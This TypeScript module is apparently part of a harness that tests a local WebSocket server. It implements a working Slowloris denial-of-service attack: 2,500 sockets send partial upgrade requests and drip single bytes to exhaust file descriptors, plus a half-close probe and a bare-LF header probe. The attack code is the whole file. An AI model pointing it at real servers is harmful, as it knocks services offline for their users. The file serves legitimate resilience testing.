/**
 * Slowloris on the fast upgrade path, without a token: many sockets send
 * the request line, then one byte every few seconds so the head never
 * completes. Scaled down: the server gets `ulimit -n 2048` and the attack
 * opens 2,500 sockets, so descriptor exhaustion shows in seconds. Two side
 * probes, sent just before the flood: a client that half-closes (FIN) after
 * a partial head, and a complete head with bare-LF line ends.
 */
import type net from 'node:net';
import {
  HOST,
  answerLabel,
  connectFrom,
  exchange,
  formatMs,
  nextSourceAddress,
  quantile,
  sleep,
  tally,
  tallyText,
  type Attack,
  type AttackContext,
  type AttackOutcome,
} from './common.ts';

const SOCKETS = 2500;
const FD_LIMIT = 2048;
const DRIP_EVERY_MS = 3000;
const CONNECT_BATCH = 100;
const ATTACK_MS = 18_000;
const SIDE_PROBE_WAIT_MS = 12_000;

interface Held {
  socket: net.Socket;
  connectedAt: number;
  /** How the server ended it, when it did: a status line, 'FIN', or an error code. */
  ended?: string;
  endedAt?: number;
}

/** Time until the server closes a socket that half-closed after a partial head. */
async function finAfterPartial(port: number): Promise<string> {
  let socket: net.Socket;
  try {
    socket = await connectFrom(port, nextSourceAddress());
  } catch (error) {
    return `connect failed (${(error as NodeJS.ErrnoException).code ?? String(error)})`;
  }
  const started = performance.now();
  return new Promise((resolve) => {
    let reply = '';
    const timer = setTimeout(() => {
      socket.destroy();
      resolve(`still open after ${formatMs(SIDE_PROBE_WAIT_MS)}`);
    }, SIDE_PROBE_WAIT_MS);
    socket.on('data', (chunk: Buffer) => (reply += chunk.toString('latin1')));
    socket.on('error', () => {});
    socket.once('close', () => {
      clearTimeout(timer);
      const status = /^HTTP\/1\.[01] (\d{3})/.exec(reply)?.[1];
      resolve(`${status ?? 'closed'} after ${formatMs(performance.now() - started)}`);
    });
    socket.end(`GET /ws?room=a HTTP/1.1\r\nHost: ${HOST}:${port}\r\n`);
  });
}

/** The answer to a complete upgrade head whose lines end in LF only. */
async function bareLf(port: number): Promise<string> {
  let socket: net.Socket;
  try {
    socket = await connectFrom(port, nextSourceAddress());
  } catch (error) {
    return `connect failed (${(error as NodeJS.ErrnoException).code ?? String(error)})`;
  }
  const head =
    `GET /ws?room=a HTTP/1.1\nHost: ${HOST}:${port}\nUpgrade: websocket\nConnection: Upgrade\n` +
    'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\nSec-WebSocket-Version: 13\n\n';
  const answer = await exchange(socket, head, SIDE_PROBE_WAIT_MS);
  answer.socket.destroy();
  return `${answerLabel(answer)} after ${formatMs(answer.ms)}`;
}

async function run(ctx: AttackContext): Promise<AttackOutcome> {
  const { port } = ctx.server;
  const finProbe = finAfterPartial(port);
  const lfProbe = bareLf(port);
  await sleep(200);

  const started = performance.now();
  const held: Held[] = [];
  const refused: string[] = [];
  let fdPeak = ctx.server.fds();
  const fdTimer = setInterval(() => {
    const fds = ctx.server.fds();
    if (Number.isFinite(fds)) fdPeak = Math.max(fdPeak, fds);
  }, 500);

  const open = async (): Promise<void> => {
    let socket: net.Socket;
    try {
      socket = await connectFrom(port, nextSourceAddress(), 3000);
    } catch (error) {
      refused.push((error as NodeJS.ErrnoException).code ?? 'error');
      return;
    }
    const entry: Held = { socket, connectedAt: performance.now() };
    held.push(entry);
    const end = (how: string): void => {
      if (entry.ended !== undefined) return;
      entry.ended = how;
      entry.endedAt = performance.now();
    };
    let reply = '';
    socket.on('data', (chunk: Buffer) => {
      reply += chunk.toString('latin1');
      const status = /^HTTP\/1\.[01] (\d{3})/.exec(reply)?.[1];
      if (status !== undefined) end(status);
    });
    socket.on('end', () => end('FIN'));
    socket.on('error', (error: NodeJS.ErrnoException) => end(error.code ?? 'error'));
    socket.on('close', () => end('closed'));
    socket.write(`GET /ws?room=a HTTP/1.1\r\n`);
  };

  for (let i = 0; i < SOCKETS && performance.now() - started < ATTACK_MS / 2; i += CONNECT_BATCH) {
    await Promise.all(Array.from({ length: Math.min(CONNECT_BATCH, SOCKETS - i) }, open));
  }
  const openedAfterMs = performance.now() - started;
  ctx.log(`    ${held.length} sockets open, ${refused.length} refused after ${formatMs(openedAfterMs)}`);

  // Drip one byte per socket every DRIP_EVERY_MS, spread over the interval.
  let turn = 0;
  const slices = 30;
  const drip = setInterval(() => {
    for (let i = turn % slices; i < held.length; i += slices) {
      const entry = held[i]!;
      if (entry.ended === undefined && !entry.socket.destroyed) entry.socket.write('a');
    }
    turn++;
  }, DRIP_EVERY_MS / slices);
  await sleep(Math.max(0, ATTACK_MS - (performance.now() - started)));
  clearInterval(drip);
  clearInterval(fdTimer);

  const closedEarly = held.filter((h) => h.ended !== undefined);
  const stillOpen = held.length - closedEarly.length;
  const closeMs = closedEarly.map((h) => h.endedAt! - h.connectedAt);
  for (const entry of held) entry.socket.destroy();
  const [fin, lf] = await Promise.all([finProbe, lfProbe]);

  const serverGone = ctx.server.alive() ? '' : '; server died';
  const refusedText = refused.length > 0 ? `, ${refused.length} refused (${tallyText(tally(refused))})` : '';
  const closedText =
    closedEarly.length > 0
      ? `, ${closedEarly.length} closed by server (${tallyText(tally(closedEarly.map((h) => h.ended!)))}; ` +
        `p50 ${formatMs(quantile(closeMs, 0.5))})`
      : '';
  return {
    summary:
      `${SOCKETS} sockets: ${stillOpen} held to the end${closedText}${refusedText}; ` +
      `server fds peak ${fdPeak}/${FD_LIMIT}; FIN after partial head: ${fin}; bare-LF head: ${lf}${serverGone}`,
    details: {
      sockets: SOCKETS,
      connected: held.length,
      refused: tally(refused),
      stillOpenAtEnd: stillOpen,
      closedByServer: tally(closedEarly.map((h) => h.ended!)),
      closeMsP50: quantile(closeMs, 0.5),
      closeMsMax: quantile(closeMs, 1),
      openedAfterMs,
      serverFdPeak: fdPeak,
      finAfterPartialHead: fin,
      bareLfHead: lf,
    },
  };
}

export const slowloris: Attack = {
  name: 'slowloris',
  description:
    `${SOCKETS} sockets from 127.0.0.2+ send "GET /ws?room=a HTTP/1.1\\r\\n", then 1 byte every ` +
    `${DRIP_EVERY_MS / 1000} s, for ${ATTACK_MS / 1000} s; server ulimit -n ${FD_LIMIT}; ` +
    'plus one FIN-after-partial-head and one bare-LF head',
  launch: { fdLimit: FD_LIMIT },
  budgetMs: ATTACK_MS + SIDE_PROBE_WAIT_MS,
  run,
};
